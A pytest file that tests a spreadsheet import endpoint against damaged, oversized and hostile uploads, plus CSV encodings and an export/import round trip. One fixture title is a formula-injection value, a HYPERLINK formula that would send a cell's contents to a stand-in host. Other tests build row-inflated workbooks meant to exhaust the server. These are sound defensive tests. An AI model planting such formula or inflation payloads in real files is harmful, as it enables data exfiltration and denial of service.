"""Importing files as people and programs make them, and as an attacker would: every sheet of a workbook,
Excel's encodings, and damaged or oversized files refused with a 400 that says what is wrong, quickly."""

import io
import re
import time
import zipfile

import pytest
from openpyxl import Workbook, load_workbook
from sqlmodel import select

from app.interventions.models import Intervention
from tests.interventions.factories import make_intervention

pytestmark = pytest.mark.anyio
URL = "/api/v1/interventions/import"
SHEET = "xl/worksheets/sheet1.xml"


def upload(content: bytes, name: str = "interventies.xlsx"):
    return {"file": (name, content, "application/octet-stream")}


def workbook(rows: list[list]) -> bytes:
    book = Workbook()
    for row in rows:
        book.active.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def edited(content: bytes, part: str, edit) -> bytes:
    """The workbook with one of its XML parts changed by `edit(text) -> text`."""
    source, out = zipfile.ZipFile(io.BytesIO(content)), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            target.writestr(item, edit(data.decode()).encode() if item.filename == part else data)
    return out.getvalue()


def titles(db) -> list[str]:
    return sorted(db.exec(select(Intervention.title)).all())


BASE = workbook([["Naam", "Kosten"], ["Hostmanship", 12], ["Intervisie", 3]])


async def test_a_sheet_that_declares_every_cell_over_empty_rows_is_refused_at_once(api_as):
    def inflate(xml: str) -> str:
        xml = re.sub(r'<dimension ref="[^"]+"\s*/>', '<dimension ref="A1:XFD1048576"/>', xml)
        return xml.replace("</sheetData>", "<row/>" * 30000 + "</sheetData>")

    content = edited(BASE, SHEET, inflate)
    started = time.perf_counter()
    r = await api_as("editor").post(URL, files=upload(content))
    assert time.perf_counter() - started < 2
    assert r.status_code == 400 and r.json()["errors"][0]["code"] == "too_many_rows", r.text


async def test_empty_rows_past_the_limit_are_refused_without_a_declared_size(api_as):
    content = edited(BASE, SHEET, lambda xml: re.sub(r"<dimension [^>]*/>", "", xml)
                     .replace("</sheetData>", "<row/>" * 6000 + "</sheetData>"))
    r = await api_as("editor").post(URL, files=upload(content))
    assert r.status_code == 400 and r.json()["errors"][0]["code"] == "too_many_rows", r.text


async def test_only_the_cells_that_exist_are_read_whatever_width_is_declared(api_as, db):
    content = edited(BASE, SHEET, lambda xml: re.sub(r'<dimension ref="[^"]+"\s*/>', '<dimension ref="A1:XFD3"/>',
                                                     xml))
    started = time.perf_counter()
    r = await api_as("editor").post(URL, files=upload(content))
    assert time.perf_counter() - started < 2
    assert r.status_code == 201, r.text
    assert titles(db) == ["Hostmanship", "Intervisie"]


def _shared_string_out_of_range(xml: str) -> str:
    return re.sub(r'<c r="A2" t="inlineStr"><is><t>\w+</t></is></c>', '<c r="A2" t="s"><v>999</v></c>', xml)


@pytest.mark.parametrize(("edit", "says"), [
    (_shared_string_out_of_range, "shared text"),
    (lambda xml: re.sub(r'(<c r="B2"[^>]*>)<v>12</v>', r"\1<v>abc</v>", xml), "abc"),
    (lambda xml: xml.replace('<row r="2"', '<row r="-1"', 1), "-1"),
    (lambda xml: xml.replace('r="A2"', 'r="ZZZZZZ2"', 1), "ZZZZZZ"),
], ids=["shared-string-index", "number-abc", "row-minus-one", "cell-reference"])
async def test_a_damaged_sheet_is_a_400_that_says_what_is_wrong(api_as, db, edit, says):
    content = edited(BASE, SHEET, edit)
    assert content != BASE
    r = await api_as("editor").post(URL, files=upload(content))
    assert r.status_code == 400, r.text
    problem = r.json()["errors"][0]
    assert problem["code"] == "unreadable_file" and problem["pointer"] == "/file"
    assert says in problem["detail"], problem["detail"]
    assert titles(db) == []


async def test_a_damaged_workbook_part_is_a_400(api_as):
    content = edited(BASE, "xl/workbook.xml", lambda xml: xml[: len(xml) // 2])
    r = await api_as("editor").post(URL, files=upload(content))
    assert r.status_code == 400 and r.json()["errors"][0]["code"] == "unreadable_file", r.text


async def test_every_sheet_is_read_and_numbered_on(api_as, db):
    book = Workbook()
    book.active.title = "Basisvaardigheden"
    book.active.append(["Naam"])
    book.active.append(["Taalcursus"])
    second = book.create_sheet("Blad2")
    second.append(["Naam", "Status"])
    second.append(["Intervisie", "misschien"])
    buffer = io.BytesIO()
    book.save(buffer)
    r = await api_as("editor").post(URL, files=upload(buffer.getvalue()), params={"dryRun": "true"})
    assert r.status_code == 200, r.text
    rows = r.json()["rows"]
    assert [(row["row"], row["sheet"], row["title"]) for row in rows] == [
        (2, "Basisvaardigheden", "Taalcursus"), (4, "Blad2", "Intervisie")]
    assert rows[0]["cells"]["category"] == "Basisvaardigheden"  # the sheet's name is a category
    assert "category" not in rows[1]["cells"]  # "Blad2" is not
    assert [e["pointer"] for e in rows[1]["errors"]] == ["/rows/4/status"]


def _programme(content: bytes) -> dict[str, list[list]]:
    book = load_workbook(io.BytesIO(content))
    return {sheet.title: [[cell.value for cell in row] for row in sheet.iter_rows()] for sheet in book.worksheets}


async def test_the_per_category_programme_imports_back_as_it_is(api_as, db, org, other_org):
    make_intervention(db, org, title="Hostmanship-training", years=(2014,), status="new", category="strategic_theme",
                      goal="Gastvrij zijn", content="Twee dagdelen", target_group="Medewerkers met klantcontact",
                      learning_form="e_learning", funding_stream="personal", cost_fixed="1500.00",
                      cost_per_participant="125.50", expected_participants=40)
    make_intervention(db, org, title='=HYPERLINK("http://x/?"&A1,"k")', years=(2014,), status="partly_existing",
                      category="basic_skill", goal="-min", cost_fixed="250.25")
    make_intervention(db, org, title="Intervisie", years=(2014,), status="existing",
                      category="management_development", learning_form="intervision", funding_stream="functional")
    exported = (await api_as("viewer").get("/api/v1/interventions/export", params={"year": 2014})).content

    editor = api_as("editor", organisation=other_org)
    r = await editor.post(URL, files=upload(exported, "uitvoeringsprogramma-2014.xlsx"), params={"year": 2014})
    assert r.status_code == 201, r.text
    assert r.json()["created"] == 3
    again = (await editor.get("/api/v1/interventions/export", params={"year": 2014})).content
    before, after = _programme(exported), _programme(again)
    assert before["Overzicht"][0] != after["Overzicht"][0]  # the title names the organisation
    before["Overzicht"][0] = after["Overzicht"][0]
    assert after == before  # the summary sheet is skipped on import, every intervention's cell comes back
    assert list(after) == ["Overzicht", "Strategische thema's", "Basisvaardigheden", "Management development"]


@pytest.mark.parametrize(("content", "name"), [
    ("Naam;Doelgroep\nCoördinatie;Iedereen\n".encode("cp1252"), "windows.csv"),
    ("Naam\tDoelgroep\nCoördinatie\tIedereen\n".encode("utf-16"), "unicode.txt"),
    (b"\xef\xbb\xbfNaam,Doelgroep\nCo\xc3\xb6rdinatie,Iedereen\n", "comma.csv"),
], ids=["cp1252-semicolon", "utf16-tab", "utf8-bom-comma"])
async def test_csv_as_excel_saves_it(api_as, db, content, name):
    r = await api_as("editor").post(URL, files=upload(content, name))
    assert r.status_code == 201, r.text
    assert titles(db) == ["Coördinatie"]


async def test_quoted_formula_text_imports_as_it_was_written(api_as, db):
    r = await api_as("editor").post(URL, files=upload(b"Naam;Doel\n'=2+2;'@x\n", "x.csv"))
    assert r.status_code == 201, r.text
    assert titles(db) == ["=2+2"]
